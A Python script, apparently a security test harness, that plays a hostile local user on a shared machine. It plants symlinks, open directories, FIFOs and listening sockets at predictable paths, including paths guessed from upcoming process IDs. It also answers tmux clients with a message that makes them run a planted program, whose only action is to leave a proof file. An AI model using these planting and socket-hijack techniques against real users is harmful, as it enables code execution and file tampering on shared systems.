"""What a hostile user runs on a node: plant things at names, listen there, and clear it all away.

planter.py: reads one line of JSON, [[kind, path, label], ...], and prints "ready"; the end of its
input removes what it planted. $$ in a path stands for the next processes of this node. Whoever
says something to a pipe or socket of it is noted in the hideout. Runs with Python 3.8.
"""

import contextlib
import json
import os
import select
import shutil
import socket
import struct
import sys
from pathlib import Path

HIDEOUT = Path("/var/tmp/hijack")
HOME = "/home/alice"
PIDS = 1000  # how many processes ahead a name with a pid is planted
SHELL, VERSION = 209, 8  # tmux' message "become this program", and the version of its protocol


def payload(label):
    """A program that proves that it ran."""
    path = HIDEOUT / f"payload-{label}"
    if not path.exists():
        path.write_text(f"#!/bin/sh\n: >{HIDEOUT}/proofs/{label}\n")
        path.chmod(0o755)
    return path


def opened(path):
    path.mkdir()
    path.chmod(0o777)
    return path


class Planter:
    """Everything that one run plants."""

    def __init__(self):
        self.planted, self.listening = [], {}

    def plant(self, kind, path, label):
        getattr(self, kind.replace(" ", "_"))(path, label)
        self.planted.append(path)

    def a_directory(self, path, _label):
        path.mkdir(mode=0o755)

    def an_open_directory(self, path, _label):
        opened(opened(path) / "runtime")

    def a_directory_with_sockets(self, path, label):
        self.an_open_directory(path, label)
        for name in ("tmux.sock", "notebook.sock"):
            self.a_socket(path / name, label)

    def a_directory_with_links(self, path, label):
        opened(path)
        for name in ("lock", "notebook.sock", "tmux.sock", "tmux.sock.lock"):
            self.a_link_to_a_file(path / name, label)
        self.a_link_to_the_home(path / "runtime", label)

    def a_file(self, path, _label):
        path.touch()
        path.chmod(0o666)

    def a_program(self, path, label):
        os.link(payload(label), path)

    def a_link_to_a_file(self, path, _label):
        path.symlink_to(f"{HOME}/thesis.txt")

    def a_link_to_an_open_directory(self, path, _label):
        path.symlink_to(HIDEOUT / "open")

    def a_link_to_the_home(self, path, _label):
        path.symlink_to(HOME)

    def a_dangling_link(self, path, label):
        path.symlink_to(f"{HOME}/canary/made-{label}")

    def a_fifo(self, path, label):
        os.mkfifo(path)
        path.chmod(0o666)
        if len(self.listening) < 500:  # the rest stays silent: whoever opens it is blocked
            self.listening[os.open(path, os.O_RDWR | os.O_NONBLOCK)] = label

    def a_socket(self, path, label):
        if len(self.listening) >= 500:
            return
        held = socket.socket(socket.AF_UNIX)
        held.bind(str(path))
        path.chmod(0o777)
        held.listen(16)
        self.listening[held] = payload(label)

    def listen(self):
        """Until our input ends."""
        while True:
            ready = select.select([sys.stdin, *self.listening], [], [])[0]
            if sys.stdin in ready:
                return
            for each in ready:
                label = self.listening[each]
                said = os.read(each, 4096) if isinstance(each, int) else self.answer(each, label)
                if said:
                    note(f"heard: {len(said)} bytes at {getattr(label, 'name', label)}")

    def answer(self, held, program):
        """A client of tmux obeys its server: one message, and it becomes our program."""
        connection, _address = held.accept()
        connection.settimeout(2)
        with contextlib.suppress(OSError):
            word = f"{program}\0".encode()
            connection.sendall(struct.pack("=IHHII", SHELL, 16 + len(word), 0, VERSION, 0) + word)
            return connection.recv(4096)
        return b""

    def clear(self):
        for path in self.planted:
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path, ignore_errors=True)
            else:
                path.unlink(missing_ok=True)


def note(line):
    with (HIDEOUT / "heard").open("a") as file:
        file.write(f"{line}\n")


def paths(path):
    """One, or one for each of the next processes."""
    here = os.getpid()
    each = range(here, here + PIDS) if "$$" in path else range(1)
    return [Path(path.replace("$$", str(number))) for number in each]


def main():
    os.umask(0)
    planter = Planter()
    shutil.rmtree(HIDEOUT / "open", ignore_errors=True)
    opened(HIDEOUT / "open")
    try:
        for kind, path, label in json.loads(sys.stdin.readline()):
            for each in paths(path):
                planter.plant(kind, each, label)
        print("ready", flush=True)
        planter.listen()
    finally:
        planter.clear()


main()
